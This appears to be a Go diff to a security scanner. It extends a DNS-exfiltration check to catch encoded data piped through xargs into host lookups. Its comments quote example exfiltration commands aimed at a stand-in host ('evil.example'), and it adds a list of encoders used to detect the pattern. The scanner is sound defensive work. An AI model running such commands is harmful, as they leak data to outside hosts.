@@ -124,7 +124,7 @@ func (s *scan) checkExfilCommands(cs *cmdScan) {
 			continue
 		}
 		if kind == "dns" || kind == "http" {
-			s.checkDNSExfil(v, kind)
+			s.checkDNSExfil(cs, v, kind)
 		}
 		if kind == "http" {
 			s.checkURLData(v)
@@ -351,11 +351,17 @@ func (cs *cmdScan) sensitiveMention(w string) (string, string, bool) {
 
 // checkDNSExfil flags host names built from command output: dig $(whoami).x,
 // curl http://$(cat f).evil.example.
-func (s *scan) checkDNSExfil(v *cmdView, kind string) {
+func (s *scan) checkDNSExfil(cs *cmdScan, v *cmdView, kind string) {
 	if !s.enabled(rExfilDNS) {
 		return
 	}
 	for _, a := range v.args {
+		// … | base64 | xargs -I{} host {}.evil.example: names built from
+		// encoded data the pipe hands xargs.
+		if kind == "dns" && (v.c.Via == "xargs" || v.c.Via == "parallel") && strings.Contains(a, "{}.") && encodedInput(cs, v) {
+			s.add(rExfilDNS, v.prog+" looks up host names built from encoded data piped to "+v.c.Via+": data leaves through DNS; refuse it", v.prog+" "+evJoin(v.args))
+			return
+		}
 		if !hasSubstitution(a) && !strings.Contains(a, "${") && !(kind == "dns" && strings.HasPrefix(a, "$")) {
 			continue
 		}
@@ -375,6 +381,20 @@ func (s *scan) checkDNSExfil(v *cmdView, kind string) {
 		s.add(rExfilDNS, v.prog+" looks up a host name built from command output: data leaves through DNS; refuse it", v.prog+" "+evJoin(v.args))
 		return
 	}
+}
+
+// encodedInput reports a pipe into v that encodes data as text (od,
+// xxd, hexdump, base64, base32), as DNS exfiltration does to fit labels.
+func encodedInput(cs *cmdScan, v *cmdView) bool {
+	for _, i := range cs.before(v) {
+		if u := cs.view(i); u != nil {
+			switch u.prog {
+			case "od", "xxd", "hexdump", "base64", "base32", "basenc", "gbase64":
+				return true
+			}
+		}
+	}
+	return false
 }
 
 // outboundDestination describes where a non-command action sends data, or
